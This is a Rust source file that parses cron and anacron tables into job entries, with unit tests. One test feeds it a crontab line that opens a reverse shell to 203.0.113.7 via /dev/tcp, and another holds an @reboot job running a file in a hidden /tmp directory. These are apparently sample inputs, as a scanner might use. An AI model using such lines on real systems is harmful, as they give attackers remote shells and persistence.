//! Parsers for cron's tables (crontab(5)) and anacron's (anacrontab(5)).
//!
//! A system table (`/etc/crontab`, `/etc/cron.d/*`) has a user field after
//! the schedule; a user's table (`/var/spool/cron/crontabs/<user>`) does
//! not. Environment lines (`PATH=...`, `MAILTO=...`) are not jobs and are
//! left out; a line that is neither is a [`CronProblem`].

/// One job line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronEntry {
    /// Line number (1-based).
    pub line: u32,
    /// The schedule as written (`*/5 * * * *`, `@reboot`), or anacron's
    /// `period delay job-id`.
    pub schedule: String,
    /// The user field (system tables only).
    pub user: Option<String>,
    /// The command.
    pub command: String,
}

/// A line that is not a job, an environment setting or a comment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronProblem {
    /// Line number (1-based).
    pub line: u32,
    /// Why.
    pub reason: String,
}

/// Splits off the first whitespace-separated field.
fn field(s: &str) -> Option<(&str, &str)> {
    let s = s.trim_start();
    if s.is_empty() {
        return None;
    }
    let end = s.find(char::is_whitespace).unwrap_or(s.len());
    Some((&s[..end], &s[end..]))
}

fn is_env_line(l: &str) -> bool {
    let Some(eq) = l.find('=') else {
        return false;
    };
    let name = l[..eq].trim().trim_matches(|c| c == '"' || c == '\'');
    !name.is_empty()
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !name.starts_with(|c: char| c.is_ascii_digit())
}

/// Numbered lines that are neither blank nor comments nor environment
/// settings.
fn job_lines(text: &str) -> impl Iterator<Item = (u32, &str)> {
    text.lines()
        .enumerate()
        .map(|(i, l)| ((i + 1) as u32, l.trim()))
        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#') && !is_env_line(l))
}

/// Parses a crontab; `system` tables carry a user field.
pub fn parse_crontab(text: &str, system: bool) -> (Vec<CronEntry>, Vec<CronProblem>) {
    let mut entries = Vec::new();
    let mut problems = Vec::new();
    for (line, l) in job_lines(text) {
        match parse_cron_line(l, system) {
            Some(mut e) => {
                e.line = line;
                entries.push(e);
            }
            None => problems.push(CronProblem {
                line,
                reason: if system {
                    "not a job (schedule, user, command), an environment line or a comment".into()
                } else {
                    "not a job (schedule, command), an environment line or a comment".into()
                },
            }),
        }
    }
    (entries, problems)
}

fn parse_cron_line(l: &str, system: bool) -> Option<CronEntry> {
    let (schedule, rest) = if l.starts_with('@') {
        let (s, rest) = field(l)?;
        (s.to_owned(), rest)
    } else {
        let mut rest = l;
        let mut parts = Vec::new();
        for _ in 0..5 {
            let (f, r) = field(rest)?;
            if !f
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ",-*/".contains(c))
            {
                return None;
            }
            parts.push(f);
            rest = r;
        }
        (parts.join(" "), rest)
    };
    let (user, rest) = if system {
        let (u, r) = field(rest)?;
        (Some(u.to_owned()), r)
    } else {
        (None, rest)
    };
    let command = rest.trim();
    if command.is_empty() {
        return None;
    }
    Some(CronEntry {
        line: 0,
        schedule,
        user,
        command: command.to_owned(),
    })
}

/// Parses `/etc/anacrontab`: `period delay job-id command`.
pub fn parse_anacrontab(text: &str) -> (Vec<CronEntry>, Vec<CronProblem>) {
    let mut entries = Vec::new();
    let mut problems = Vec::new();
    for (line, l) in job_lines(text) {
        let parsed = (|| {
            let (period, r) = field(l)?;
            let (delay, r) = field(r)?;
            let (id, r) = field(r)?;
            let command = r.trim();
            (!command.is_empty()).then(|| CronEntry {
                line,
                schedule: format!("{period} {delay} {id}"),
                user: Some("root".into()),
                command: command.to_owned(),
            })
        })();
        match parsed {
            Some(e) => entries.push(e),
            None => problems.push(CronProblem {
                line,
                reason: "not a job (period, delay, job id, command)".into(),
            }),
        }
    }
    (entries, problems)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_and_user_tables() {
        let (e, p) = parse_crontab(
            "SHELL=/bin/sh\nPATH=/usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /tmp/.x/run\n*/5 * * * * \nnonsense\n",
            true,
        );
        assert_eq!(e.len(), 2);
        assert_eq!(e[0].schedule, "17 * * * *");
        assert_eq!(e[0].user.as_deref(), Some("root"));
        assert_eq!(e[0].command, "cd / && run-parts --report /etc/cron.hourly");
        assert_eq!(e[1].schedule, "@reboot");
        assert_eq!(e[1].line, 5);
        assert_eq!(p.len(), 2);
        let (e, _) = parse_crontab(
            "* * * * * bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n",
            false,
        );
        assert_eq!(e[0].user, None);
        assert!(e[0].command.starts_with("bash -i"));
    }

    #[test]
    fn anacron() {
        let (e, p) = parse_anacrontab("SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\nbad\n");
        assert_eq!(e.len(), 2);
        assert_eq!(e[1].schedule, "@monthly 15 cron.monthly");
        assert_eq!(p.len(), 1);
    }
}
